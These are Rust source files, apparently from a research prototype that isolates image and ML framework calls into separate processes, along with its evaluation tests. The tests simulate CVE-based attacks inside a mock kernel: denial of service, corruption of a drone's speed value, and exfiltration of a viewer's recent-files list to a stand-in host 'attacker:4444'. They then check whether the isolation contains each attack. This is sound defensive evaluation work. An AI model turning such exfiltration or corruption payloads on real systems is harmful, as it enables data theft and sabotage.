    let titles = rig.call("Gtk.RecentManager.get_items", &[]).unwrap();
    assert_eq!(titles, Value::Str("recent-secret.png".into()));
}

#[test]
fn window_ops_and_key_polling() {
    let mut rig = Rig::new();
    rig.call("cv2.namedWindow", &[Value::from("w")]).unwrap();
    assert_eq!(rig.kernel.display.window_count(), 1);
    assert_eq!(rig.call("cv2.pollKey", &[]).unwrap(), Value::I64(-1));
    rig.kernel.display.push_key(b'q');
    assert_eq!(
        rig.call("cv2.pollKey", &[]).unwrap(),
        Value::I64(b'q' as i64)
    );
    rig.call("cv2.destroyAllWindows", &[]).unwrap();
    assert_eq!(rig.kernel.display.window_count(), 0);
}

#[test]
fn bad_args_are_reported_not_panicked() {
    let mut rig = Rig::new();
    assert!(matches!(
        rig.call("cv2.imread", &[Value::I64(3)]),
        Err(FrameworkError::BadArgs(_))
    ));
    assert!(matches!(
        rig.call("cv2.GaussianBlur", &[Value::from("not-an-object")]),
        Err(FrameworkError::BadArgs(_))
    ));
}

#[test]
fn every_processing_api_runs_on_a_small_mat_or_tensor() {
    // Smoke-test the whole catalog: every DataProcessing API must execute
    // without panicking given a canonical argument tuple.
    use freepart_frameworks::api::ApiType;
    let mut rig = Rig::new();
    rig.seed_image("/in.simg", 16, 16);
    let names: Vec<String> = rig
        .reg
        .iter()
        .filter(|s| s.declared_type == ApiType::DataProcessing)
        .map(|s| s.name.clone())
        .collect();
    for name in names {
        let img = rig.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
        let img2 = rig.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
        let tensor = rig.call("torch.tensor", &[Value::I64(36)]).unwrap();
        let tensor2 = rig.call("torch.tensor", &[Value::I64(36)]).unwrap();
        let spec = rig.reg.by_name(&name).unwrap();
        use freepart_frameworks::ApiKind as K;
        let args: Vec<Value> = match spec.kind {
            K::Filter(_) | K::FindContours | K::Reduce | K::Crop | K::Resize => vec![img],
            K::Binary(_) => vec![img, img2],
            K::DrawRect => vec![
                img,
                Value::I64(1),
                Value::I64(1),
                Value::I64(4),
                Value::I64(4),
            ],
            K::PutText => vec![img, Value::from("x"), Value::I64(0), Value::I64(0)],
            K::DetectMultiScale => {
                rig.kernel.fs.put("/c.xml", vec![1; 8]);
                let clf = rig
                    .call("cv2.CascadeClassifier.load", &[Value::from("/c.xml")])
                    .unwrap();
                vec![clf, img]
            }
            K::TensorUnary(_)
            | K::TensorConv
            | K::TensorPoolMax
            | K::TensorPoolAvg
            | K::TensorMatmul => vec![tensor],
            K::Forward => vec![tensor, tensor2],
            K::TrainStep => vec![tensor, tensor2, Value::F64(0.5)],
            K::TensorNew => vec![Value::I64(8)],
            K::AllocUtil => vec![Value::I64(64)],
            K::PlotAdd => vec![Value::List(vec![Value::F64(1.0)])],
            _ => continue,
        };
        let r = rig.call(&name, &args);
        assert!(r.is_ok(), "{name} failed: {:?}", r.err());
    }
}
