//! The multi-tenant serving workload: N identical image pipelines, one
//! per tenant, drivable two ways against the *same* call chain —
//!
//! * **pooled** ([`run_chain_pooled`]): tenants admitted with
//!   [`Runtime::spawn_tenant`] share the four `part0..part3` agent
//!   pools; calls go through the deficit-round-robin run queues.
//! * **per-thread baseline** ([`run_chain_on`]): each pipeline gets its
//!   own agent set via [`Runtime::spawn_thread`] — the paper's §6
//!   model, 5N processes for N pipelines.
//!
//! Both runners return the same `(result, payload bytes)` pair, which
//! is what the tenant-transparency property compares byte-for-byte:
//! pooling must change *scheduling*, never *outputs*.

use freepart::{CallError, Runtime, TenantId, ThreadId};
use freepart_frameworks::fileio::encode_image;
use freepart_frameworks::image::Image;
use freepart_frameworks::Value;

/// One tenant pipeline's output: the final detector result plus the
/// processed payload bytes (fetched through the owner's own view).
#[derive(Debug, Clone, PartialEq)]
pub struct ChainOutput {
    /// `cv2.findContours` result on the processed frame.
    pub rects: Value,
    /// The blurred frame's payload, read back by the owning tenant.
    pub bytes: Vec<u8>,
}

/// Stages tenant `n`'s input frame in the simulated filesystem and
/// returns its path. Every tenant gets distinct pixel content (and a
/// distinct geometry class), so identical outputs across tenants would
/// be a correctness bug, not a coincidence.
pub fn stage_input(rt: &mut Runtime, n: u32) -> String {
    let mut img = Image::new(6 + (n % 3), 6 + (n / 3 % 3), 3);
    for (i, b) in img.data.iter_mut().enumerate() {
        *b = ((i as u32).wrapping_mul(31).wrapping_add(n * 97) % 251) as u8;
    }
    let path = format!("/tenant{n}.simg");
    // `fs_put` (not `fs.put`): the seed must land in the commit log so
    // recorded multi-tenant runs replay digest-identically.
    rt.kernel.fs_put(&path, encode_image(&img, None));
    path
}

/// The four-call chain every pipeline runs: load → color-convert →
/// blur → detect, spanning the loading and processing pools.
const CHAIN: [&str; 4] = [
    "cv2.imread",
    "cv2.cvtColor",
    "cv2.GaussianBlur",
    "cv2.findContours",
];

/// Runs one tenant's chain through the shared pools (DRR-scheduled).
///
/// # Errors
///
/// See [`CallError`].
pub fn run_chain_pooled(
    rt: &mut Runtime,
    tenant: TenantId,
    path: &str,
) -> Result<ChainOutput, CallError> {
    let mut v = Value::from(path);
    let mut blurred = None;
    for api in CHAIN {
        v = rt.call_tenant(tenant, api, &[v])?;
        if api == "cv2.GaussianBlur" {
            blurred = v.as_obj();
        }
    }
    let blurred = blurred.expect("blur returns an object");
    let bytes = rt.tenant_fetch(tenant, blurred)?;
    Ok(ChainOutput { rects: v, bytes })
}

/// Runs the identical chain on a dedicated application thread with its
/// own agent set (the per-thread baseline).
///
/// # Errors
///
/// See [`CallError`].
pub fn run_chain_on(
    rt: &mut Runtime,
    thread: ThreadId,
    path: &str,
) -> Result<ChainOutput, CallError> {
    let mut v = Value::from(path);
    let mut blurred = None;
    for api in CHAIN {
        v = rt.call_on(thread, api, &[v])?;
        if api == "cv2.GaussianBlur" {
            blurred = v.as_obj();
        }
    }
    let blurred = blurred.expect("blur returns an object");
    let bytes = rt.fetch_bytes(blurred)?;
    Ok(ChainOutput { rects: v, bytes })
}

/// Runs every tenant's chain through the pools stage-by-stage: stage
/// `k` of *all* tenants is submitted before any stage-`k` call is
/// served, so the run queues actually hold contending tenants and the
/// deficit-round-robin scheduler earns its keep. Returns each tenant's
/// final `cv2.findContours` result, in tenant order.
///
/// # Errors
///
/// See [`CallError`].
pub fn run_chains_interleaved(
    rt: &mut Runtime,
    tenants: &[TenantId],
    paths: &[String],
) -> Result<Vec<Value>, CallError> {
    let mut vals: Vec<Value> = paths.iter().map(|p| Value::from(p.as_str())).collect();
    for api in CHAIN {
        let mut handles = Vec::with_capacity(tenants.len());
        for (t, v) in tenants.iter().zip(&vals) {
            handles.push(rt.tenant_submit(*t, api, std::slice::from_ref(v))?);
        }
        rt.pump_all();
        let mut next = Vec::with_capacity(handles.len());
        for h in handles {
            next.push(rt.tenant_wait(h)?);
        }
        vals = next;
    }
    Ok(vals)
}

/// The chain's call count (sizing helpers for the bench's curves).
pub fn chain_len() -> usize {
    CHAIN.len()
}
