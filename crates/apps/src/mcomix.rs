//! The MComix3 image-viewer information-leak case study (paper §5.4.2,
//! Fig. 15).
//!
//! The viewer keeps a recently-opened-files list in two places: the
//! application's own `self._window.uimanager.recent` and GTK's
//! `RecentManager` (GUI framework state). The attacker exploits
//! `CVE-2020-10378` in the image loader and tries to read the recent
//! list and `send()` it off-box.

use freepart_baselines::ApiSurface;
use freepart_frameworks::image::Image;
use freepart_frameworks::{fileio, ExploitPayload, ObjectId, Value};

/// Viewer session configuration.
#[derive(Debug, Clone, Default)]
pub struct ViewerConfig {
    /// Image files to open (their names are the sensitive history).
    pub files: Vec<String>,
    /// Crafted image at this index, if attacking.
    pub evil_at: Option<(usize, ExploitPayload)>,
}

/// Session outcome.
#[derive(Debug)]
pub struct ViewerResult {
    /// The host-side recent-files list object.
    pub recent: ObjectId,
    /// Its final (expected) contents.
    pub recent_contents: Vec<u8>,
    /// Files successfully displayed.
    pub displayed: u32,
}

/// Runs the viewer session.
pub fn run(surface: &mut dyn ApiSurface, cfg: &ViewerConfig) -> ViewerResult {
    // The application-side recent list — sensitive host data.
    let recent_contents = cfg.files.join("\n").into_bytes();
    let recent = surface.host_data("self._window.uimanager.recent", &recent_contents);
    surface.finish_setup();

    let mut displayed = 0;
    for (i, file) in cfg.files.iter().enumerate() {
        let payload = match &cfg.evil_at {
            Some((at, p)) if *at == i => Some(p),
            _ => None,
        };
        let img = Image::new(24, 24, 3);
        surface
            .kernel_mut()
            .fs
            .put(file, fileio::encode_image(&img, payload));
        let Ok(loaded) = surface.call("PIL.Image.open", &[Value::Str(file.clone())]) else {
            continue;
        };
        // Display through the GUI stack; the window title is the file
        // name, which is how GTK's RecentManager learns it.
        if surface
            .call("cv2.imshow", &[Value::Str(file.clone()), loaded])
            .is_ok()
        {
            displayed += 1;
        }
        // GTK-side recent list read (visualizing process state).
        let _ = surface.call("Gtk.RecentManager.get_items", &[]);
    }
    ViewerResult {
        recent,
        recent_contents,
        displayed,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart::{Policy, Runtime};
    use freepart_attacks::{judge, payloads, AttackGoal, Verdict};
    use freepart_baselines::MonolithicRuntime;
    use freepart_frameworks::registry::standard_registry;

    fn files() -> Vec<String> {
        vec![
            "/home/u/private-medical-scan.png".to_owned(),
            "/home/u/tax-return-2025.png".to_owned(),
            "/home/u/cat.png".to_owned(),
        ]
    }

    #[test]
    fn benign_session_displays_everything() {
        let mut rt = MonolithicRuntime::original(standard_registry());
        let r = run(
            &mut rt,
            &ViewerConfig {
                files: files(),
                evil_at: None,
            },
        );
        assert_eq!(r.displayed, 3);
    }

    #[test]
    fn leak_succeeds_in_the_original_viewer() {
        let mut rt = MonolithicRuntime::original(standard_registry());
        // Probe for the recent-list address.
        let addr = {
            let mut p = MonolithicRuntime::original(standard_registry());
            let r = run(
                &mut p,
                &ViewerConfig {
                    files: files(),
                    evil_at: None,
                },
            );
            p.objects.meta(r.recent).unwrap().buffer.unwrap().0
        };
        let payload = payloads::exfiltrate("CVE-2020-10378", addr.0, 40, "attacker:4444");
        let r = run(
            &mut rt,
            &ViewerConfig {
                files: files(),
                evil_at: Some((1, payload)),
            },
        );
        let log = rt.exploit_log().to_vec();
        let (kernel, objects, host) = rt.attack_view();
        let v = judge(
            &AttackGoal::Exfiltrate {
                marker: b"private-medical-scan".to_vec(),
            },
            kernel,
            objects,
            host,
            &log,
        );
        assert_eq!(v, Verdict::Succeeded, "unprotected viewer leaks");
        let _ = r;
    }

    #[test]
    fn freepart_blocks_the_leak_twice_over() {
        let mut rt = Runtime::install(standard_registry(), Policy::freepart());
        let addr = {
            let mut p = Runtime::install(standard_registry(), Policy::freepart());
            let r = run(
                &mut p,
                &ViewerConfig {
                    files: files(),
                    evil_at: None,
                },
            );
            p.objects.meta(r.recent).unwrap().buffer.unwrap().0
        };
        let payload = payloads::exfiltrate("CVE-2020-10378", addr.0, 40, "attacker:4444");
        let r = run(
            &mut rt,
            &ViewerConfig {
                files: files(),
                evil_at: Some((1, payload)),
            },
        );
        // The read faults (recent list lives in the host, not the
        // loading agent) AND the loading agent's filter has no send —
        // either defense alone stops the leak (Fig. 15).
        let log = rt.exploit_log.clone();
        let (kernel, objects, host) = rt.attack_view();
        let v = judge(
            &AttackGoal::Exfiltrate {
                marker: b"private-medical-scan".to_vec(),
            },
            kernel,
            objects,
            host,
            &log,
        );
        assert_eq!(v, Verdict::Prevented);
        // Viewer keeps working for the remaining files.
        assert!(r.displayed >= 2);
        assert!(rt.kernel.is_running(rt.host_pid()));
    }
}
