//! Batched drivers: the same OMR and drone missions, submitted through
//! the asynchronous interface so consecutive same-partition calls
//! coalesce into single IPC frames (`Policy::batch_window`).
//!
//! The synchronous drivers ([`crate::omr::run`], [`crate::drone::run`])
//! wait on every call, which retires it immediately — a retirement
//! reaching into the open batch is a hazard flush, so sync submission
//! caps every batch at one member and batching buys nothing. These
//! drivers issue the same call sequences via
//! [`Runtime::call_async`]/[`Runtime::promise`] (`promise` peeks at the
//! eagerly-computed result *without* retiring, so the batch keeps
//! growing) and only retire at true value/hazard points. Results are
//! byte-identical to the synchronous runs — execution order, arguments,
//! and outcomes are unchanged; only the frame accounting is coalesced.
//!
//! Unlike [`crate::pipeline`], these drivers do **not** enable
//! per-process timelines: they run on the global clock, so
//! `kernel.clock().now_ns()` stays directly comparable to the
//! synchronous hotpath rows.

use crate::drone::{DroneConfig, DroneResult};
use crate::omr::{submission_image, OmrConfig, OmrResult};
use freepart::{CallError, Runtime};
use freepart_frameworks::{fileio, Value};
use freepart_simos::device::Camera;

/// Submits one hooked call asynchronously and peeks at its (eagerly
/// computed) outcome without retiring it, mirroring the sync drivers'
/// per-call error collection.
fn acall(
    rt: &mut Runtime,
    errors: &mut Vec<CallError>,
    name: &str,
    args: &[Value],
) -> Option<Value> {
    match rt.call_async(name, args).and_then(|h| rt.promise(h)) {
        Ok(v) => Some(v),
        Err(e) => {
            errors.push(e);
            None
        }
    }
}

/// Runs the OMR grader with batched submission. Same inputs, same
/// scores, same attack outcomes as [`crate::omr::run`] under the same
/// policy — only `metrics.ipc_messages` (frames) drops.
pub fn run_omr_batched(rt: &mut Runtime, cfg: &OmrConfig) -> OmrResult {
    // ---- initialization (identical to the sync driver) ----
    let template_bytes: Vec<u8> = (0..16_384u32).map(|i| (i * 3 % 251) as u8).collect();
    let template = rt.host_data("template", &template_bytes);
    rt.host_data("answer_key", b"ABCDABCDABCDABCD");

    rt.kernel
        .fs
        .put("/omr/template.json", b"{\"qblocks\": 16}".to_vec());
    rt.kernel.fs.put(
        "/omr/roster.csv",
        fileio::encode_csv(&[vec![1.0], vec![2.0]]),
    );
    let mut errors = Vec::new();
    let mut scores = Vec::new();
    let mut completed = 0;
    acall(
        rt,
        &mut errors,
        "json.load",
        &[Value::from("/omr/template.json")],
    );
    let roster = acall(
        rt,
        &mut errors,
        "pd.read_csv",
        &[Value::from("/omr/roster.csv")],
    );

    // ---- grading loop ----
    for sample in 0..cfg.samples {
        rt.trace_mark(&format!("omr:sample {sample}"));
        let path = format!("/omr/submission-{sample}.simg");
        let img = submission_image(sample);
        let payload = match &cfg.evil_sample {
            Some((at, p)) if *at == sample => Some(p),
            _ => None,
        };
        rt.kernel.fs.put(&path, fileio::encode_image(&img, payload));

        // The processing chain threads object handles through `promise`,
        // so the seven same-partition calls accumulate into one batch.
        let Some(loaded) = acall(rt, &mut errors, "cv2.imread", &[Value::Str(path)]) else {
            continue; // containment event: skip this submission
        };
        let Some(gray) = acall(rt, &mut errors, "cv2.cvtColor", &[loaded]) else {
            continue;
        };
        let Some(smooth) = acall(rt, &mut errors, "cv2.GaussianBlur", &[gray]) else {
            continue;
        };
        let Some(thresh) = acall(rt, &mut errors, "cv2.threshold", &[smooth]) else {
            continue;
        };
        let Some(warped) = acall(rt, &mut errors, "cv2.warpPerspective", &[thresh]) else {
            continue;
        };
        let Some(morph) = acall(
            rt,
            &mut errors,
            "cv2.morphologyEx",
            std::slice::from_ref(&warped),
        ) else {
            continue;
        };
        let Some(annotated) = acall(rt, &mut errors, "cv2.merge", std::slice::from_ref(&morph))
        else {
            continue;
        };
        let marks = acall(
            rt,
            &mut errors,
            "cv2.findContours",
            std::slice::from_ref(&morph),
        );
        let found = match marks {
            Some(Value::Rects(r)) => r.len() as f64,
            _ => 0.0,
        };
        // Host grading logic: the template is host-resident, so these
        // reads are not batch hazards and flush nothing.
        let mut acc = 0u64;
        for _block in 0..8 {
            let t = rt.fetch_bytes(template).unwrap_or_default();
            acc += t.first().copied().unwrap_or(0) as u64;
        }
        let score = found * (acc as f64 / 8.0 + 1.0) / 16.0;
        scores.push(score);

        // Hot loop: the rectangle/putText pairs are all Visualizing, so
        // they batch up to the window between flushes.
        for b in 0..cfg.boxes_per_sample {
            let x = (b * 7 % 40) as i64;
            acall(
                rt,
                &mut errors,
                "cv2.rectangle",
                &[
                    annotated.clone(),
                    Value::I64(x),
                    Value::I64(x),
                    Value::I64(6),
                    Value::I64(6),
                ],
            );
            acall(
                rt,
                &mut errors,
                "cv2.putText",
                &[
                    annotated.clone(),
                    Value::from("A"),
                    Value::I64(x),
                    Value::I64(40),
                ],
            );
        }

        // Preview.
        let preview = if let Some(p) = &cfg.evil_imshow {
            let path = format!("/omr/evil-preview-{sample}.simg");
            rt.kernel.fs.put(&path, fileio::encode_image(&img, Some(p)));
            acall(rt, &mut errors, "cv2.imread", &[Value::Str(path)])
        } else {
            Some(annotated.clone())
        };
        if let Some(pv) = preview {
            acall(rt, &mut errors, "cv2.imshow", &[Value::from("omr"), pv]);
        }
        acall(rt, &mut errors, "cv2.pollKey", &[]);
        completed += 1;
    }

    // ---- results ----
    // Close the mission: the final flush + retirements, then the same
    // roster-liveness logic as the sync driver.
    rt.drain_inflight();
    let mut results_written = false;
    let roster = match roster {
        Some(r)
            if rt
                .objects
                .meta(r.as_obj().expect("roster is an object"))
                .is_some_and(|m| rt.kernel.is_running(m.home)) =>
        {
            Some(r)
        }
        _ => acall(
            rt,
            &mut errors,
            "pd.read_csv",
            &[Value::from("/omr/roster.csv")],
        ),
    };
    if let Some(r) = roster {
        if acall(
            rt,
            &mut errors,
            "pd.DataFrame.to_csv",
            &[Value::from("/omr/scores.csv"), r],
        )
        .is_some()
        {
            results_written = rt.kernel.fs.exists("/omr/scores.csv");
        }
    }
    rt.drain_inflight();
    OmrResult {
        template,
        template_original: template_bytes,
        completed,
        scores,
        errors,
        results_written,
    }
}

/// Flies the drone mission with batched submission. Same commands, same
/// attack outcomes as [`crate::drone::run`] under the same policy.
pub fn run_drone_batched(rt: &mut Runtime, cfg: &DroneConfig) -> DroneResult {
    if rt.kernel.camera.is_none() {
        rt.kernel.camera = Some(Camera::new(77, freepart_frameworks::exec::CAMERA_FRAME_LEN));
    }
    let speed_original = 0.3f64.to_le_bytes().to_vec();
    let speed = rt.host_data("self.speed", &speed_original);

    let mut result = DroneResult {
        speed,
        speed_original,
        frames_processed: 0,
        frames_lost: 0,
        control_loop_alive: true,
        commands: Vec::new(),
    };
    let mut errors = Vec::new();

    let Some(capture) = acall(rt, &mut errors, "cv2.VideoCapture", &[Value::I64(0)]) else {
        result.control_loop_alive = rt.kernel.is_running(rt.host_pid());
        return result;
    };

    for frame_idx in 0..cfg.frames {
        rt.trace_mark(&format!("drone:frame {frame_idx}"));
        // 1. Grab a frame and stage it to disk. Execution is eager at
        //    submission, so the file is staged before `imread` submits
        //    even though neither call has retired yet.
        let staged = format!("/drone/frame-{frame_idx}.simg");
        let mut stage_errors = Vec::new();
        let staged_ok = (|| {
            let frame = acall(
                rt,
                &mut stage_errors,
                "cv2.VideoCapture.read",
                std::slice::from_ref(&capture),
            )?;
            acall(
                rt,
                &mut stage_errors,
                "cv2.imwrite",
                &[Value::Str(staged.clone()), frame],
            )
        })();
        errors.append(&mut stage_errors);
        if staged_ok.is_none() {
            result.frames_lost += 1;
            continue;
        }
        // An attacker on the image path swaps in a crafted file.
        if let Some((at, payload)) = &cfg.evil_frame {
            if *at == frame_idx {
                let img = freepart_frameworks::image::Image::new(16, 16, 3);
                rt.kernel.fs.put(
                    &staged,
                    freepart_frameworks::fileio::encode_image(&img, Some(payload)),
                );
            }
        }
        // 2. Load + detect, threading handles through `promise`.
        let detection = (|| {
            let img = acall(rt, &mut errors, "cv2.imread", &[Value::Str(staged.clone())])?;
            let gray = acall(rt, &mut errors, "cv2.cvtColor", &[img])?;
            let hits = acall(rt, &mut errors, "cv2.findContours", &[gray])?;
            Some(match hits {
                Value::Rects(r) => r.len() as f64,
                _ => 0.0,
            })
        })();
        match detection {
            Some(direction) => {
                // 3. Control: `self.speed` is host-resident, so the read
                //    is not a batch hazard.
                let bytes = rt.fetch_bytes(speed).unwrap_or_default();
                let speed_now = bytes
                    .get(..8)
                    .map(|b| f64::from_le_bytes([b[0], b[1], b[2], b[3], b[4], b[5], b[6], b[7]]))
                    .unwrap_or(0.0);
                result.commands.push(speed_now * direction.max(0.2));
                result.frames_processed += 1;
            }
            None => {
                result.frames_lost += 1;
            }
        }
        if !rt.kernel.is_running(rt.host_pid()) {
            result.control_loop_alive = false;
            break;
        }
    }
    rt.drain_inflight();
    result
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{drone, omr};
    use freepart::{Policy, Runtime};
    use freepart_attacks::payloads;
    use freepart_frameworks::registry::standard_registry;

    fn benign_drone(frames: u32) -> DroneConfig {
        DroneConfig {
            frames,
            evil_frame: None,
        }
    }

    #[test]
    fn batched_omr_scores_are_byte_identical_to_sync() {
        let mut sync_rt = Runtime::install(standard_registry(), Policy::freepart());
        let sync = omr::run(&mut sync_rt, &OmrConfig::benign(6));
        let sync_ipc = sync_rt.kernel.metrics().ipc_messages;

        let mut rt = Runtime::install(standard_registry(), Policy::freepart_batched());
        let batched = run_omr_batched(&mut rt, &OmrConfig::benign(6));
        let m = rt.kernel.metrics();

        assert_eq!(batched.completed, 6);
        assert_eq!(batched.scores, sync.scores, "byte-identical grading");
        assert!(batched.errors.is_empty());
        assert!(batched.results_written);
        assert_eq!(rt.in_flight(), 0, "mission ends fully drained");
        assert!(
            m.ipc_messages < sync_ipc,
            "batching must cut frames: {} vs {}",
            m.ipc_messages,
            sync_ipc
        );
        assert!(m.calls_batched > 0, "calls actually rode in batches");
    }

    #[test]
    fn batched_drone_issues_the_same_commands_as_sync() {
        let mut sync_rt = Runtime::install(standard_registry(), Policy::freepart());
        let sync = drone::run(&mut sync_rt, &benign_drone(8));
        let sync_ipc = sync_rt.kernel.metrics().ipc_messages;

        let mut rt = Runtime::install(standard_registry(), Policy::freepart_batched());
        let batched = run_drone_batched(&mut rt, &benign_drone(8));
        let m = rt.kernel.metrics();

        assert_eq!(batched.frames_processed, 8);
        assert!(batched.control_loop_alive);
        assert_eq!(batched.commands, sync.commands, "byte-identical steering");
        assert_eq!(rt.in_flight(), 0, "mission ends fully drained");
        assert!(m.ipc_messages < sync_ipc, "batching must cut frames");
    }

    #[test]
    fn dos_attack_verdict_is_unchanged_under_batching() {
        let mut rt = Runtime::install(standard_registry(), Policy::freepart_batched());
        let cfg = DroneConfig {
            frames: 5,
            evil_frame: Some((2, payloads::dos("CVE-2017-14136"))),
        };
        let r = run_drone_batched(&mut rt, &cfg);
        assert!(r.control_loop_alive, "control loop unaffected");
        assert_eq!(r.frames_processed, 4);
        assert_eq!(r.frames_lost, 1);
        assert!(r.commands.iter().all(|c| *c > 0.0));
    }

    #[test]
    fn speed_corruption_verdict_is_unchanged_under_batching() {
        // Probe under the same policy: host_data placement is identical,
        // so the attacker aims at the same buffer address.
        let addr = {
            let mut probe = Runtime::install(standard_registry(), Policy::freepart_batched());
            let r = run_drone_batched(&mut probe, &benign_drone(0));
            probe.objects.meta(r.speed).unwrap().buffer.unwrap().0
        };
        let evil_speed = (-0.3f64).to_le_bytes().to_vec();
        let mut rt = Runtime::install(standard_registry(), Policy::freepart_batched());
        let cfg = DroneConfig {
            frames: 4,
            evil_frame: Some((1, payloads::corrupt("CVE-2017-12606", addr.0, evil_speed))),
        };
        let r = run_drone_batched(&mut rt, &cfg);
        assert!(r.control_loop_alive);
        assert!(
            r.commands.iter().all(|c| *c > 0.0),
            "steering unaffected: {:?}",
            r.commands
        );
    }

    #[test]
    fn omr_dos_attack_is_contained_under_batching() {
        let cfg = OmrConfig {
            samples: 4,
            boxes_per_sample: 2,
            evil_sample: Some((1, payloads::dos("CVE-2017-14136"))),
            evil_imshow: None,
        };
        let mut rt = Runtime::install(standard_registry(), Policy::freepart_batched());
        let r = run_omr_batched(&mut rt, &cfg);
        assert!(rt.kernel.is_running(rt.host_pid()));
        assert_eq!(r.completed, 3, "only the malicious submission is lost");
        assert!(r.results_written);
    }

    // ---- the composed preset: shm + batching + supervision ----

    #[test]
    fn full_policy_omr_is_byte_identical_and_composes_every_mechanism() {
        let mut sync_rt = Runtime::install(standard_registry(), Policy::freepart());
        let sync = omr::run(&mut sync_rt, &OmrConfig::benign(6));

        let mut rt = Runtime::install(standard_registry(), Policy::freepart_full());
        let full = run_omr_batched(&mut rt, &OmrConfig::benign(6));
        assert_eq!(full.scores, sync.scores, "byte-identical grading");
        assert!(full.errors.is_empty());
        assert!(full.results_written);
        assert_eq!(rt.in_flight(), 0, "mission ends fully drained");
        // All three mechanisms really engaged at once.
        assert!(
            rt.kernel.metrics().calls_batched > 0,
            "batching engaged under the composed preset"
        );
        assert!(
            rt.stats().shm_grants > 0,
            "shm promotion engaged under the composed preset"
        );
        let loading = rt.partition_of(rt.registry().id_of("cv2.imread").unwrap());
        assert!(
            rt.spare_count(loading) > 0,
            "warm spares pooled under the composed preset"
        );
    }

    #[test]
    fn full_policy_dos_restart_adopts_a_warm_spare() {
        let cfg = OmrConfig {
            samples: 4,
            boxes_per_sample: 2,
            evil_sample: Some((1, payloads::dos("CVE-2017-14136"))),
            evil_imshow: None,
        };
        let mut rt = Runtime::install(standard_registry(), Policy::freepart_full());
        let loading = rt.partition_of(rt.registry().id_of("cv2.imread").unwrap());
        let spares_before = rt.spare_count(loading);
        let r = run_omr_batched(&mut rt, &cfg);
        assert!(rt.kernel.is_running(rt.host_pid()));
        assert_eq!(r.completed, 3, "only the malicious submission is lost");
        assert!(r.results_written);
        assert!(rt.stats().restarts > 0, "the DoS really killed an agent");
        assert!(
            rt.spare_count(loading) < spares_before,
            "the restart adopted a pooled warm spare"
        );
    }

    // ---- attack verdicts under the adaptive controller ----

    #[test]
    fn dos_attack_verdict_is_unchanged_under_the_adaptive_policy() {
        let mut rt = Runtime::install(standard_registry(), Policy::freepart_adaptive());
        let cfg = DroneConfig {
            frames: 5,
            evil_frame: Some((2, payloads::dos("CVE-2017-14136"))),
        };
        let r = run_drone_batched(&mut rt, &cfg);
        assert!(r.control_loop_alive, "control loop unaffected");
        assert_eq!(r.frames_processed, 4);
        assert_eq!(r.frames_lost, 1);
        assert!(r.commands.iter().all(|c| *c > 0.0));
    }

    #[test]
    fn speed_corruption_verdict_is_unchanged_under_the_adaptive_policy() {
        // Probe under the same policy: host_data placement is identical,
        // so the attacker aims at the same buffer address.
        let addr = {
            let mut probe = Runtime::install(standard_registry(), Policy::freepart_adaptive());
            let r = run_drone_batched(&mut probe, &benign_drone(0));
            probe.objects.meta(r.speed).unwrap().buffer.unwrap().0
        };
        let evil_speed = (-0.3f64).to_le_bytes().to_vec();
        let mut rt = Runtime::install(standard_registry(), Policy::freepart_adaptive());
        let cfg = DroneConfig {
            frames: 4,
            evil_frame: Some((1, payloads::corrupt("CVE-2017-12606", addr.0, evil_speed))),
        };
        let r = run_drone_batched(&mut rt, &cfg);
        assert!(r.control_loop_alive);
        assert!(
            r.commands.iter().all(|c| *c > 0.0),
            "steering unaffected: {:?}",
            r.commands
        );
    }

    #[test]
    fn omr_dos_attack_is_contained_under_the_adaptive_policy() {
        let cfg = OmrConfig {
            samples: 4,
            boxes_per_sample: 2,
            evil_sample: Some((1, payloads::dos("CVE-2017-14136"))),
            evil_imshow: None,
        };
        let mut rt = Runtime::install(standard_registry(), Policy::freepart_adaptive());
        let r = run_omr_batched(&mut rt, &cfg);
        assert!(rt.kernel.is_running(rt.host_pid()));
        assert_eq!(r.completed, 3, "only the malicious submission is lost");
        assert!(r.results_written);
    }
}
