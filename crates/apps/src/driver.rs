//! Generic application pipeline driver.
//!
//! Executes a [`ResolvedApp`]'s call schedule against any
//! [`ApiSurface`], round by round, in the canonical pipeline order
//! (loading → processing → visualizing → storing) the paper's Study 1
//! observed in all 56 surveyed programs. The driver threads real data
//! objects between calls (images flow through filters, tensors through
//! networks), performs host-side "application logic" compute between
//! rounds, and occasionally dereferences results on the host — the
//! access pattern whose copy behaviour Table 12 measures.

use crate::spec::ResolvedApp;
use freepart::CallError;
use freepart_baselines::ApiSurface;
use freepart_frameworks::api::{ApiId, ApiKind, ApiRegistry, ApiType, WindowOp};
use freepart_frameworks::exec::CAMERA_FRAME_LEN;
use freepart_frameworks::image::Image;
use freepart_frameworks::tensor::Tensor;
use freepart_frameworks::{fileio, ObjectKind, Value};
use freepart_simos::device::Camera;

/// Driver knobs.
#[derive(Debug, Clone)]
pub struct RunOptions {
    /// Host-application compute charged per round (work units) — the
    /// app's own logic between framework calls.
    pub host_work_per_round: u64,
    /// Side of seeded workload images.
    pub image_side: u32,
    /// Length of seeded workload tensors.
    pub tensor_len: u32,
    /// Dereference critical data on the host every N rounds
    /// (0 = never) — the non-lazy-copy source of Table 12.
    pub fetch_every: u32,
}

impl Default for RunOptions {
    fn default() -> Self {
        RunOptions {
            host_work_per_round: 50_000,
            image_side: 32,
            tensor_len: 8_192,
            fetch_every: 4,
        }
    }
}

/// What one application run did.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RunReport {
    /// Pipeline rounds executed.
    pub rounds: u32,
    /// Framework-API calls completed.
    pub calls: u64,
    /// Host dereferences of results/critical data.
    pub host_fetches: u64,
    /// The critical-data object, for post-run attack judgment.
    pub critical: Option<freepart_frameworks::ObjectId>,
}

/// Threaded pipeline state: the objects flowing between calls.
#[derive(Debug, Default)]
struct Flow {
    img: Option<Value>,
    tensor: Option<Value>,
    model: Option<Value>,
    clf: Option<Value>,
    capture: Option<Value>,
    table: Option<Value>,
    figure: Option<Value>,
}

/// Per-API file cursors for seeded inputs.
struct Seeds {
    prefix: String,
    counter: u64,
}

impl Seeds {
    fn next_path(&mut self, tag: &str) -> String {
        self.counter += 1;
        format!("{}/{tag}-{}.dat", self.prefix, self.counter)
    }
}

fn seeded_image(side: u32, salt: u64) -> Image {
    let mut img = Image::new(side, side, 3);
    for y in 0..side {
        for x in 0..side {
            for c in 0..3 {
                let v = (x as u64 * 31 + y as u64 * 17 + c as u64 * 7 + salt * 13) % 256;
                img.put(x, y, c, v as u8);
            }
        }
    }
    img
}

